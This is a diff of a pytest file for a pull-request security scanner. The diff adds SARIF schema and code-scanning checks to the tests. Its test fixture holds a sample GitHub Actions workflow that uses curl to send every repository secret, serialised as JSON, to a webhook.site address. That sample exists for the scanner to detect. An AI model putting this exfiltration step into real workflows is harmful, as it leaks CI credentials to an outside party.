@@ -13,7 +13,7 @@ import pytest
 from scanners.rules.registry import new_file
 from tests.conftest import DIFFS, requires_corpus
 from tests.fake_openai import completion, fake_openai_server
-from tests.sarif_schema import sarif_errors
+from tests.sarif_schema import code_scanning_problems, sarif_errors
 
 MALICIOUS = new_file(".github/workflows/x.yml", "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -d \"$S\" https://webhook.site/abc\n        env:\n          S: ${{ toJSON(secrets) }}\n")
 CLEAN = new_file("README.md", "Hello.\n")
@@ -56,14 +56,14 @@ def test_unusable_input_exits_2_with_one_line(tmp_path: Path) -> None:
 
 def test_sarif_output_is_valid(tmp_path: Path) -> None:
     sarif = tmp_path / "out.sarif"
-    result = run_cli("scan-pr", "-", "--offline", "--sarif", str(sarif), stdin=MALICIOUS.encode())
+    result = run_cli("scan-pr", "-", "--offline", "--sarif", str(sarif), "--sarif-anchor", ".github/workflows/scan.yml", stdin=MALICIOUS.encode())
     assert result.returncode == 0
     document = json.loads(sarif.read_text(encoding="utf-8"))
-    assert sarif_errors(document) == []
+    assert sarif_errors(document) == [] and code_scanning_problems(document) == []
     results = document["runs"][0]["results"]
     assert results and all(r["ruleId"] for r in results)
-    located = [r for r in results if "locations" in r]
-    assert located[0]["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] == ".github/workflows/x.yml"
+    located = [(r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"], r["properties"]["inFile"]) for r in results]
+    assert (".github/workflows/x.yml", True) in located
 
 
 def test_settings_error_names_the_variable() -> None:
